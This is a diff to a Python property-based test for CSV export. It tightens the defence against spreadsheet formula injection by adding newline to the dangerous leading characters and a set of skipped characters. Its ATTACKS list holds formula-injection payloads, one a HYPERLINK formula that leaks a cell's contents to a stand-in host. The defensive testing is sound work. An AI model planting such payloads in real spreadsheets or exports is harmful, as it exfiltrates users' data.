@@ -20,6 +20,7 @@ from app.formats.csv_export import (
     BOM,
     COLUMNS,
     GUARD_LEADING,
+    GUARD_SKIPPED,
     neutralise,
     unneutralise,
     write_csv,
@@ -30,7 +31,7 @@ from app.offsets import new_annotation
 from db import repository
 from db.connection import open_db
 
-DANGEROUS = "=+-@\t\r"  # what a spreadsheet treats as the start of a formula
+DANGEROUS = "=+-@\t\r\n"  # what a spreadsheet treats as the start of a formula
 ATTACKS = ['=HYPERLINK("http://x.example/?leak="&A1,"x")', "+1", "-2", "@SUM(A1)", "\t=1", "\r=1"]
 
 cell_text = st.one_of(
@@ -78,7 +79,7 @@ def test_any_text_is_inert_in_the_file_and_restored_exactly(rows):
     for original_row, cells in zip(rows, back[1:], strict=True):
         for original, cell in zip(original_row, cells, strict=True):
             assert not cell.startswith(tuple(DANGEROUS))
-            if original.startswith(tuple(GUARD_LEADING)):
+            if original.lstrip(GUARD_SKIPPED).startswith(tuple(GUARD_LEADING)):
                 assert cell == "'" + original
             else:
                 assert cell == original
@@ -146,7 +147,7 @@ def _tag(db, doc, needle, tag_name, **kw):
 
 
 def _export_both_ways(db) -> tuple[str, str]:
-    in_sql = written(repository.export_rows(db, None, GUARD_LEADING), guarded=True)
+    in_sql = written(repository.export_rows(db, None, GUARD_LEADING, GUARD_SKIPPED), guarded=True)
     in_python = written(repository.export_rows(db, None), guarded=False)
     return in_sql, in_python
 
